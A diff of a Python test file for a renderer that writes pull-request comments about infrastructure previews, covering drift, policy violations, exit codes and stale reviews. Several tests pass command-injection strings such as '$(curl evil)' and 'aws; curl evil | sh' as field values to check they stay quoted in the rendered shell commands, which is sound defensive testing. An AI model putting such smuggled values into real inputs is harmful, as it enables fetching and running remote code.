@@ -1,6 +1,8 @@
 """The comment of a pull request: what it says, that it fits, and that foreign text stays text."""
 
 import os
+import re
+from dataclasses import replace
 from itertools import pairwise
 from pathlib import Path
 
@@ -10,27 +12,39 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 
 from delivery.comment import render
-from delivery.comment.body import LIMIT, MARKER
+from delivery.comment.body import LIMIT, MARKER, outdated
 from delivery.comment.records import Action, Change, Policies, StackPreview, Step, Violation
 from delivery.comment.verdict import Exit, exit_code
-from tests.unit.delivery.reviews import HOSTILE, MANY, ONE, REVIEWS, SELECTOR, THREE, preview, review, step
+from tests.unit.delivery.reviews import (
+    DIGEST,
+    HOSTILE,
+    HOSTILE_NAMES,
+    MANY,
+    ONE,
+    SELECTOR,
+    THREE,
+    TOLD,
+    preview,
+    review,
+    step,
+)
 
 GOLDENS = Path(__file__).parent / "goldens"
 
 
-@pytest.mark.parametrize("name", REVIEWS)
+@pytest.mark.parametrize("name", TOLD)
 def test_it_reads_as_agreed(name: str) -> None:
     golden = GOLDENS / f"{name}.md"
-    text = render(REVIEWS[name])
+    text = render(TOLD[name])
     if os.environ.get("LANDFALL_ACCEPT_GOLDENS"):
         golden.write_text(text)
 
     assert text == golden.read_text(), "Set LANDFALL_ACCEPT_GOLDENS=1, run it again, read the difference."
 
 
-@pytest.mark.parametrize("name", REVIEWS)
+@pytest.mark.parametrize("name", TOLD)
 def test_it_is_found_again_by_its_marker_and_begins_with_the_verdict(name: str) -> None:
-    marker, _, verdict = render(REVIEWS[name]).split("\n")[:3]
+    marker, _, verdict = render(TOLD[name]).split("\n")[:3]
 
     assert marker == MARKER
     assert verdict.startswith("## ")
@@ -95,6 +109,14 @@ def test_what_was_changed_outside_is_kept_apart() -> None:
     assert "`spec.replicas`" in after
 
 
+def test_drift_that_could_not_be_looked_for_is_not_none() -> None:
+    text = render(review(preview(step(1, Action.CREATE), unseen="the cluster does not answer")))
+
+    assert "❓ drift of 1 stack unknown" in text.splitlines()[2]
+    assert "| ❓ unknown |" in text
+    assert "**Drift unknown**: `the cluster does not answer`" in text
+
+
 def test_what_stays_in_the_cloud_is_not_lost() -> None:
     lost = render(THREE).partition("### ⛔ What is lost")[2].partition("<details>")[0]
 
@@ -116,16 +138,66 @@ def test_no_policy_is_red() -> None:
         ("many", Exit.DESTRUCTIVE),
         ("failed", Exit.FAILED),
         ("three", Exit.POLICY),
+        ("merged", Exit.UNREVIEWED),
+        ("missing", Exit.FAILED),
     ],
 )
 def test_the_exit_code_says_the_same(name: str, code: Exit) -> None:
-    assert exit_code(REVIEWS[name]) is code
+    assert exit_code(TOLD[name]) is code
+
+
+def test_the_commands_are_those_that_made_it() -> None:
+    text = render(TOLD["merged"])
+
+    assert f"scripts/preview_comment --release {DIGEST} --drift --base 9b8e7d6c5a00 aws-uat aws-prod " in text
+    for stack in ("aws-uat", "aws-prod"):
+        assert f"\nscripts/apply {stack} " in text
+        assert f"\npulumi cancel --stack {stack} " in text
+
+
+def test_what_was_rehearsed_is_seen_again_without_an_account() -> None:
+    text = render(replace(ONE, rehearsed=True))
+
+    assert "\nscripts/rehearse review aws " in text
+    assert "scripts/apply" not in text
+    assert "pulumi cancel" not in text
+
+
+@pytest.mark.parametrize("word", ["--allow x", "$(curl evil)", "'; curl evil", "abc\ncurl evil"])
+def test_no_foreign_word_gets_into_a_command_by_base_or_release(word: str) -> None:
+    text = render(replace(ONE, base=word, release=word))
+
+    assert "\nscripts/preview_comment --drift aws " in text
+
+
+def test_what_does_not_fit_has_a_link() -> None:
+    violations = tuple(Violation("p", "mandatory", f"r{number}", "no") for number in range(30))
+    log = "https://forge.example/runs/7"
+
+    text = render(review(preview(policies=Policies(55, violations), log=log)))
+
+    assert f"- and 10 more, in [the log]({log})" in text
+    assert f"All of it is in [the log]({log})." in render(review(preview(error="no", log=log)))
 
 
 def test_an_outdated_review_says_so_first() -> None:
-    text = render(review(*ONE.previews, stale="main has moved since."))
+    text = outdated(render(ONE), "main has moved since.")
 
+    assert outdated(text, "main has moved again.") == text
     assert text.index("**Stale**: `main has moved since") < text.index("| stack |")
+
+
+@pytest.mark.parametrize("reason", HOSTILE_NAMES)
+def test_what_has_moved_is_no_markup(reason: str) -> None:
+    told = outdated(render(ONE), reason)
+
+    assert len(_inline(told)) == len(_inline(outdated(render(ONE), "x")))
+    assert told.endswith(render(ONE).partition("\n\n| stack |")[2])
+
+
+def test_a_comment_that_is_none_of_ours_stays_as_it_is() -> None:
+    for text in ("", "a remark", MARKER, f"a remark\n\n{render(ONE)}"):
+        assert outdated(text, "main has moved since.") == text
 
 
 def _prose(text: str) -> list[str]:
@@ -180,7 +252,7 @@ def test_the_worst_of_20_stacks_fits(text: str, limit: int) -> None:
         stack=text,
     )
 
-    rendered = render(review(*[worst] * 20, stale=text), limit)
+    rendered = render(review(*[worst] * 20), limit)
 
     assert len(rendered) <= limit
     assert "❌ 20 previews failed" in rendered
@@ -204,7 +276,7 @@ def test_a_stacks_name_is_one_word_of_a_command() -> None:
     text = render(review(preview(stack="aws; curl evil | sh")))
 
     assert "scripts/apply 'aws; curl evil | sh' " in text
-    assert "scripts/preview_comment 'aws; curl evil | sh' " in text
+    assert re.search(r"\nscripts/preview_comment --base [0-9a-f]{12} 'aws; curl evil \| sh' ", text)
 
 
 def test_thousands_of_new_images_are_told_quickly() -> None:
